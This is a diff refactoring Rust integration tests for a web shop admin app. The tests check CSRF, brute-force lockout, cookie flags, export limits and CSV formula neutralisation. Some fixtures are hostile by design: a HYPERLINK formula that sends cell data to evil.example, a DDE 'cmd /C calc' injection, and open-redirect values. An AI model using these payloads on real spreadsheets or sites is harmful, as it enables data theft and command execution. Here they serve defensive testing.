@@ -7,8 +7,8 @@
 use std::net::SocketAddr;
 use std::time::{Duration, Instant};
 
-use crate::harness::live::{Answer, LiveServer};
-use crate::harness::{TestApp, PASSWORD};
+use crate::harness::live::{read_head, Answer, LiveServer};
+use crate::harness::{csrf_in, encode_form, TestApp, PASSWORD};
 use rocket::http::{ContentType, Header, Method, Status};
 use rocket::tokio::io::AsyncReadExt;
 
@@ -19,8 +19,7 @@ fn from(ip: &str) -> SocketAddr {
 
 /// Posts the sign-in form from `address` with the browser's current token.
 async fn sign_in_from(app: &TestApp, address: &str, email: &str, password: &str) -> (Status, String) {
-    let form =
-        crate::harness::encode_form(&[("csrf", &app.csrf()), ("email", email), ("password", password), ("next", "/")]);
+    let form = encode_form(&[("csrf", &app.csrf()), ("email", email), ("password", password), ("next", "/")]);
     let response =
         app.client.post("/sign-in").remote(from(address)).header(ContentType::Form).body(form).dispatch().await;
     (response.status(), response.into_string().await.unwrap_or_default())
@@ -37,7 +36,7 @@ async fn timed_page(server: &LiveServer, session: &str) -> (u16, Duration) {
 async fn stalled_sign_in_and_sign_out_bodies_hold_no_database_connection() {
     let app = TestApp::with_demo(false).await;
     app.staff("admin@shop.example", "admin").await;
-    let server = LiveServer::start(&app.url, &[]);
+    let server = LiveServer::start(&app.url, &[]).await;
     let (session, _) = server.sign_in("admin@shop.example", PASSWORD).await;
     let page = server.exchange("GET", "/sign-in", &[], "").await;
     let presession = page.cookies();
@@ -73,20 +72,10 @@ async fn stalled_sign_in_and_sign_out_bodies_hold_no_database_connection() {
 async fn no_post_route_takes_a_connection_before_its_form_arrives() {
     let app = TestApp::with_demo(false).await;
     app.staff("admin@shop.example", "admin").await;
-    app.user("Ada", "ada@example.com").await;
-    let server = LiveServer::start(&app.url, &[]);
+    app.customer("Ada", "ada@example.com").await;
+    let server = LiveServer::start(&app.url, &[]).await;
     let (session, _) = server.sign_in("admin@shop.example", PASSWORD).await;
-    let mut posts: Vec<String> = app
-        .client
-        .rocket()
-        .routes()
-        .filter(|r| r.method == Method::Post)
-        .map(|r| {
-            r.uri.path().split('/').map(|s| if s.starts_with('<') { "1" } else { s }).collect::<Vec<_>>().join("/")
-        })
-        .collect();
-    posts.sort();
-    posts.dedup();
+    let posts = app.routes(Method::Post);
     assert!(posts.len() >= 15, "{posts:?}");
     for path in &posts {
         let head = format!(
@@ -106,10 +95,7 @@ async fn no_post_route_takes_a_connection_before_its_form_arrives() {
 
 /// A shop with `n` customers, enough that an export outgrows socket buffers.
 async fn with_customers(app: &TestApp, n: u64) {
-    let mut conn = app.pool.acquire().await.unwrap();
-    shopdesk::generate::generate(&mut conn, shopdesk::generate::Sizes { users: n, products: 0, orders: 0 }, 7, false)
-        .await
-        .unwrap();
+    app.generate(shopdesk::generate::Sizes { users: n, products: 0, orders: 0 }, 7).await;
 }
 
 #[rocket::async_test]
@@ -117,7 +103,7 @@ async fn unread_csv_downloads_cannot_starve_pages() {
     let app = TestApp::with_demo(false).await;
     app.staff("admin@shop.example", "admin").await;
     with_customers(&app, 120_000).await;
-    let server = LiveServer::start(&app.url, &[]);
+    let server = LiveServer::start(&app.url, &[]).await;
     let (session, _) = server.sign_in("admin@shop.example", PASSWORD).await;
 
     let head = format!("GET /users.csv HTTP/1.1\r\nHost: localhost\r\nCookie: {session}\r\n\r\n");
@@ -142,14 +128,12 @@ async fn a_download_cut_short_is_visibly_incomplete() {
     let app = TestApp::with_demo(false).await;
     app.staff("admin@shop.example", "admin").await;
     with_customers(&app, 120_000).await;
-    let server = LiveServer::start(&app.url, &[]);
+    let server = LiveServer::start(&app.url, &[]).await;
     let (session, _) = server.sign_in("admin@shop.example", PASSWORD).await;
 
     let head = format!("GET /users.csv HTTP/1.1\r\nHost: localhost\r\nCookie: {session}\r\nConnection: close\r\n\r\n");
     let mut stream = server.send(&head, b"").await;
-    let mut raw = vec![0; 16 * 1024];
-    let n = stream.read(&mut raw).await.unwrap();
-    let answer = Answer::parse(&raw[..n]);
+    let (answer, first) = read_head(&mut stream).await;
     assert_eq!(answer.status, 200);
     let announced: usize = answer.header("content-length").and_then(|l| l.parse().ok()).expect("a Content-Length");
     assert!(announced > 8_000_000, "the export is larger than socket buffers: {announced}");
@@ -157,10 +141,8 @@ async fn a_download_cut_short_is_visibly_incomplete() {
     rocket::tokio::time::sleep(Duration::from_secs(3)).await;
     let mut rest = Vec::new();
     let read = rocket::tokio::time::timeout(Duration::from_secs(20), stream.read_to_end(&mut rest)).await;
-    let received = n + rest.len();
     assert!(read.is_ok(), "the server ended the connection");
-    let head_len = String::from_utf8_lossy(&raw[..n]).find("\r\n\r\n").unwrap() + 4;
-    let body = received - head_len;
+    let body = first.len() + rest.len();
     assert!(body < announced, "the client sees {body} of {announced} bytes: an incomplete download");
     // Its slot is free again: the next download completes.
     let again = server.exchange("GET", "/users.csv", &[("Cookie", &session)], "").await;
@@ -171,7 +153,7 @@ async fn a_download_cut_short_is_visibly_incomplete() {
 #[rocket::async_test]
 async fn an_export_whose_filters_cannot_be_read_says_why() {
     let app = TestApp::new().await;
-    app.user("Ada", "ada@example.com").await;
+    app.customer("Ada", "ada@example.com").await;
     for path in [
         "/users.csv?joined_from=-4714-01-01",
         "/users.csv?joined_to=0000-01-01",
@@ -214,11 +196,7 @@ async fn a_forged_address_header_is_ignored_by_default() {
     app.staff("ada@shop.example", "admin").await;
     app.refresh_csrf("/sign-in").await;
     for _ in 0..8 {
-        let form = crate::harness::encode_form(&[
-            ("csrf", &app.csrf()),
-            ("email", "ada@shop.example"),
-            ("password", "wrong one"),
-        ]);
+        let form = encode_form(&[("csrf", &app.csrf()), ("email", "ada@shop.example"), ("password", "wrong one")]);
         app.client
             .post("/sign-in")
             .remote(from("198.51.100.7"))
@@ -248,8 +226,7 @@ async fn a_trusted_proxy_names_the_client_and_nobody_else_can() {
     app.staff("ada@shop.example", "admin").await;
     app.refresh_csrf("/sign-in").await;
     for (peer, forwarded) in [("10.0.0.2", "6.6.6.6, 203.0.113.5"), ("198.51.100.9", "203.0.113.77")] {
-        let form =
-            crate::harness::encode_form(&[("csrf", &app.csrf()), ("email", "ada@shop.example"), ("password", "nope")]);
+        let form = encode_form(&[("csrf", &app.csrf()), ("email", "ada@shop.example"), ("password", "nope")]);
         app.client
             .post("/sign-in")
             .remote(from(peer))
@@ -272,9 +249,7 @@ async fn the_owner_still_signs_in_after_an_attackers_failures_elsewhere() {
     // The owner signs in from home once, then signs out.
     let (status, _) = sign_in_from(&app, "192.0.2.10", "ada@shop.example", PASSWORD).await;
     assert_eq!(status, Status::SeeOther);
-    app.refresh_csrf("/").await;
-    app.post("/sign-out", &[]).await;
-    app.refresh_csrf("/sign-in").await;
+    app.sign_out().await;
 
     // An attacker guesses from 40 addresses and hammers from one more.
     for i in 0..40 {
@@ -309,37 +284,20 @@ async fn the_owner_still_signs_in_after_an_attackers_failures_elsewhere() {
 async fn two_admins_demoting_each_other_at_once_leave_one_admin() {
     let app = TestApp::new().await;
     let first: i64 = app.scalar_i64("SELECT id FROM staff WHERE email = 'admin@test.example'").await;
-    let second_app = {
-        // A second browser for the second admin, on the same database.
-        let figment = shopdesk::figment()
-            .merge(rocket::figment::providers::Serialized::global("databases.shop.url", &app.url))
-            .merge(rocket::figment::providers::Serialized::global("demo", false))
-            .merge(rocket::figment::providers::Serialized::global("log_level", "off"));
-        rocket::local::asynchronous::Client::tracked(shopdesk::build_rocket(figment)).await.unwrap()
-    };
     let second = app.staff("grace@test.example", "admin").await;
-    let page = second_app.get("/sign-in").dispatch().await.into_string().await.unwrap();
-    let token = crate::harness::csrf_in(&page).unwrap();
-    let signed = second_app
-        .post("/sign-in")
-        .header(ContentType::Form)
-        .body(crate::harness::encode_form(&[("csrf", &token), ("email", "grace@test.example"), ("password", PASSWORD)]))
-        .dispatch()
-        .await;
-    assert_eq!(signed.status(), Status::SeeOther);
-    let page = second_app.get("/").dispatch().await.into_string().await.unwrap();
-    let second_token = crate::harness::csrf_in(&page).unwrap();
+    // A second browser for the second admin, on the same database.
+    let grace = app.second_app(&[]).await;
+    grace.refresh_csrf("/sign-in").await;
+    assert_eq!(grace.sign_in("grace@test.example", PASSWORD).await.status, Status::SeeOther);
+    grace.refresh_csrf("/").await;
 
-    for (round, change) in [("role", "viewer"), ("disable", ""), ("role", "viewer"), ("disable", "")].iter().enumerate()
+    for (round, (kind, role)) in
+        [("role", "viewer"), ("disable", ""), ("role", "viewer"), ("disable", "")].into_iter().enumerate()
     {
-        let (kind, role) = change;
-        let first_form = crate::harness::encode_form(&[("csrf", &app.csrf()), ("change", kind), ("role", role)]);
-        let second_form = crate::harness::encode_form(&[("csrf", &second_token), ("change", kind), ("role", role)]);
-        let (a, b) = futures::join!(
-            app.client.post(format!("/staff/{second}")).header(ContentType::Form).body(first_form).dispatch(),
-            second_app.post(format!("/staff/{first}")).header(ContentType::Form).body(second_form).dispatch(),
-        );
-        let statuses = [a.status(), b.status()];
+        let change = [("change", kind), ("role", role)];
+        let (demote_grace, demote_me) = (format!("/staff/{second}"), format!("/staff/{first}"));
+        let (a, b) = futures::join!(app.post(&demote_grace, &change), grace.post(&demote_me, &change));
+        let statuses = [a.status, b.status];
         assert_eq!(statuses, [Status::SeeOther, Status::SeeOther], "round {round}: both answered with a message");
         let admins = app.scalar_i64("SELECT count(*) FROM staff WHERE role = 'admin' AND NOT disabled").await;
         assert_eq!(admins, 1, "round {round}: exactly one admin is left, never none");
@@ -423,28 +381,21 @@ async fn the_csrf_token_belongs_to_one_session_and_changes_at_sign_in() {
     assert_eq!(stale.status, Status::Forbidden);
 
     // Another browser's valid token and cookie do not work with this session.
-    let other = rocket::local::asynchronous::Client::tracked(shopdesk::build_rocket(
-        shopdesk::figment()
-            .merge(rocket::figment::providers::Serialized::global("databases.shop.url", &app.url))
-            .merge(rocket::figment::providers::Serialized::global("demo", false))
-            .merge(rocket::figment::providers::Serialized::global("log_level", "off")),
-    ))
-    .await
-    .unwrap();
-    let visitor = other.get("/sign-in").dispatch().await.into_string().await.unwrap();
-    let visitor_token = crate::harness::csrf_in(&visitor).unwrap();
+    let other = app.second_app(&[]).await;
+    let visitor = other.get("/sign-in").await;
+    let visitor_token = csrf_in(&visitor.body).unwrap();
     let forged =
         app.post_raw("/users", &[("csrf", &visitor_token), ("name", "Eve"), ("email", "eve@example.com")]).await;
     assert_eq!(forged.status, Status::Forbidden);
     assert_eq!(app.scalar_i64("SELECT count(*) FROM users").await, 0);
     // This session's own token works.
-    app.post_ok("/users", &[("name", "Grace"), ("email", "grace@example.com")]).await;
+    app.create_customer("Grace", "grace@example.com").await;
 }
 
 #[rocket::async_test]
 async fn what_used_to_be_a_500_is_now_a_clear_4xx_or_a_message() {
     let app = TestApp::new().await;
-    app.user("Ada", "ada@example.com").await;
+    app.customer("Ada", "ada@example.com").await;
     // `next` values that are not valid addresses, while signed in.
     for next in ["/%20/evil.example", "/%E3%80%80/evil.example", "/%EF%BC%8Fevil.example"] {
         let page = app.get(&format!("/sign-in?next={next}")).await;
@@ -472,10 +423,10 @@ async fn what_used_to_be_a_500_is_now_a_clear_4xx_or_a_message() {
     }
     // Invisible or reordering names are refused like empty ones.
     for name in ["\u{200B}\u{200B}", "\u{FEFF}", "Ada \u{202E}ecalevoL"] {
-        let page = app.post("/users", &[("name", name), ("email", "x@example.com")]).await;
+        let page = app.post_new_customer(name, "x@example.com").await;
         assert_eq!(page.status, Status::Ok, "the form again for {name:?}");
         page.assert_contains("field-error");
-        let page = app.post("/products", &[("name", name), ("sku", "SKU-1"), ("price", "1"), ("stock", "1")]).await;
+        let page = app.post_new_product(name, "SKU-1", "1", "1").await;
         page.assert_contains("field-error");
     }
     assert_eq!(app.scalar_i64("SELECT count(*) FROM users").await, 1);
@@ -487,16 +438,12 @@ async fn what_used_to_be_a_500_is_now_a_clear_4xx_or_a_message() {
     assert_eq!((picked.status, picked.body.as_str()), (Status::Ok, "[]"));
 
     // Signed out: `next=/orders x` and a NUL in the email.
-    app.post("/sign-out", &[]).await;
-    app.refresh_csrf("/sign-in").await;
-    let signed =
-        app.post("/sign-in", &[("email", "admin@test.example"), ("password", PASSWORD), ("next", "/orders x")]).await;
+    app.sign_out().await;
+    let signed = app.sign_in_to("admin@test.example", PASSWORD, "/orders x").await;
     assert_eq!((signed.status, signed.location.as_deref()), (Status::SeeOther, Some("/")));
     assert_eq!(app.scalar_i64("SELECT count(*) FROM audit_log WHERE action = 'sign_in'").await, 2);
-    app.refresh_csrf("/").await;
-    app.post("/sign-out", &[]).await;
-    app.refresh_csrf("/sign-in").await;
-    let nul = app.post("/sign-in", &[("email", "admin@test.example\0"), ("password", PASSWORD)]).await;
+    app.sign_out().await;
+    let nul = app.sign_in("admin@test.example\0", PASSWORD).await;
     assert_eq!(nul.status, Status::Ok);
     nul.assert_contains("do not match an active account");
 }
@@ -505,13 +452,9 @@ async fn what_used_to_be_a_500_is_now_a_clear_4xx_or_a_message() {
 async fn every_export_neutralises_formulas() {
     let app = TestApp::new().await;
     let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")";
-    let user = app.user("@SUM(1+1)*cmd|' /C calc'!A0", "eve@example.com").await;
+    let user = app.customer("@SUM(1+1)*cmd|' /C calc'!A0", "eve@example.com").await;
     let product = app.product(evil, "+SKU", 1000, 10).await;
-    app.post_ok(
-        "/orders",
-        &[("user_id", &user.to_string()), ("lines[0].product_id", &product.to_string()), ("lines[0].quantity", "2")],
-    )
-    .await;
+    app.place_order(user, &[(product, 2)]).await;
     for path in [
         "/users.csv",
         "/products.csv",
@@ -542,43 +485,25 @@ async fn every_export_neutralises_formulas() {
 #[rocket::async_test]
 async fn nothing_but_static_files_may_be_cached_and_cookies_are_locked_down() {
     let app = TestApp::new().await;
-    app.user("Ada", "ada@example.com").await;
+    app.customer("Ada", "ada@example.com").await;
     for path in ["/", "/users", "/users.csv", "/pickers/customers?q=ada", "/sign-in", "/no/such/page"] {
-        let response = app.client.get(path).dispatch().await;
-        assert_eq!(response.headers().get_one("Cache-Control"), Some("no-store"), "{path}");
-        assert_eq!(response.headers().get_one("Server"), None, "{path}: no Server banner");
+        let page = app.get(path).await;
+        assert_eq!(page.header("Cache-Control"), Some("no-store"), "{path}");
+        assert_eq!(page.header("Server"), None, "{path}: no Server banner");
     }
-    let css = app.client.get("/static/app.css").dispatch().await;
-    assert_eq!(css.headers().get_one("Cache-Control"), None);
+    let css = app.get("/static/app.css").await;
+    assert_eq!(css.header("Cache-Control"), None);
 
     // The flash cookie is HttpOnly like the others.
-    let response = app
-        .client
-        .post("/users")
-        .header(ContentType::Form)
-        .body(crate::harness::encode_form(&[("csrf", &app.csrf()), ("name", "Grace"), ("email", "grace@example.com")]))
-        .dispatch()
-        .await;
-    let flash: Vec<&str> = response.headers().get("Set-Cookie").filter(|c| c.starts_with("_flash=")).collect();
+    let created = app.post_new_customer("Grace", "grace@example.com").await;
+    let flash: Vec<&str> = created.headers("Set-Cookie").filter(|c| c.starts_with("_flash=")).collect();
     assert_eq!(flash.len(), 1);
     assert!(flash[0].contains("HttpOnly") && flash[0].contains("SameSite=Lax"), "{}", flash[0]);
 
     // The session cookie lives no longer than the session (12 hours).
-    app.post("/sign-out", &[]).await;
-    app.refresh_csrf("/sign-in").await;
-    let response = app
-        .client
-        .post("/sign-in")
-        .header(ContentType::Form)
-        .body(crate::harness::encode_form(&[
-            ("csrf", &app.csrf()),
-            ("email", "admin@test.example"),
-            ("password", PASSWORD),
-        ]))
-        .dispatch()
-        .await;
-    let session =
-        response.headers().get("Set-Cookie").find(|c| c.starts_with("shopdesk_session=")).unwrap().to_string();
+    app.sign_out().await;
+    let signed_in = app.sign_in("admin@test.example", PASSWORD).await;
+    let session = signed_in.headers("Set-Cookie").find(|c| c.starts_with("shopdesk_session=")).unwrap().to_string();
     let max_age: i64 = session
         .split(';')
         .find_map(|part| part.trim().strip_prefix("Max-Age="))
@@ -591,14 +516,14 @@ async fn nothing_but_static_files_may_be_cached_and_cookies_are_locked_down() {
 async fn metrics_need_the_token_and_are_off_without_one() {
     let app = TestApp::new().await;
     assert_eq!(app.metrics().await.status, Status::Ok);
-    let anonymous = app.client.get("/metrics").dispatch().await;
-    assert_eq!(anonymous.status(), Status::Unauthorized);
-    assert_eq!(anonymous.headers().get_one("WWW-Authenticate"), Some("Bearer realm=\"metrics\""));
+    let anonymous = app.get("/metrics").await;
+    assert_eq!(anonymous.status, Status::Unauthorized);
+    assert_eq!(anonymous.header("WWW-Authenticate"), Some("Bearer realm=\"metrics\""));
     let wrong = app.client.get("/metrics").header(Header::new("Authorization", "Bearer guess")).dispatch().await;
     assert_eq!(wrong.status(), Status::Unauthorized);
 
     let off = TestApp::configured(false, &[("metrics_token", "".into())]).await;
-    assert_eq!(off.client.get("/metrics").dispatch().await.status(), Status::NotFound);
+    assert_eq!(off.get("/metrics").await.status, Status::NotFound);
     let with_header = off.client.get("/metrics").header(Header::new("Authorization", "Bearer ")).dispatch().await;
     assert_eq!(with_header.status(), Status::NotFound);
 }
@@ -617,23 +542,13 @@ async fn a_server_that_is_not_a_demo_disables_the_published_login() {
     let demo = TestApp::with_demo(true).await;
     let enabled = "SELECT count(*) FROM staff WHERE email = 'viewer@shopdesk.demo' AND NOT disabled";
     assert_eq!(demo.scalar_i64(enabled).await, 1);
-    let figment = shopdesk::figment()
-        .merge(rocket::figment::providers::Serialized::global("databases.shop.url", &demo.url))
-        .merge(rocket::figment::providers::Serialized::global("demo", false))
-        .merge(rocket::figment::providers::Serialized::global("log_level", "off"));
-    let real = rocket::local::asynchronous::Client::tracked(shopdesk::build_rocket(figment)).await.unwrap();
+    let real = demo.second_app(&[]).await;
     assert_eq!(demo.scalar_i64(enabled).await, 0, "the published password no longer signs anyone in");
     assert_eq!(demo.scalar_i64("SELECT count(*) FROM audit_log WHERE action = 'disable'").await, 1);
-    let page = real.get("/sign-in").dispatch().await.into_string().await.unwrap();
-    let token = crate::harness::csrf_in(&page).unwrap();
-    let form = crate::harness::encode_form(&[
-        ("csrf", &token),
-        ("email", shopdesk::demo::DEMO_VIEWER_EMAIL),
-        ("password", shopdesk::demo::DEMO_VIEWER_PASSWORD),
-    ]);
-    let answer = real.post("/sign-in").header(ContentType::Form).body(form).dispatch().await;
-    assert_eq!(answer.status(), Status::Ok);
-    assert!(answer.into_string().await.unwrap().contains("do not match an active account"));
+    real.refresh_csrf("/sign-in").await;
+    let answer = real.sign_in(shopdesk::demo::DEMO_VIEWER_EMAIL, shopdesk::demo::DEMO_VIEWER_PASSWORD).await;
+    assert_eq!(answer.status, Status::Ok);
+    answer.assert_contains("do not match an active account");
 }
 
 #[test]
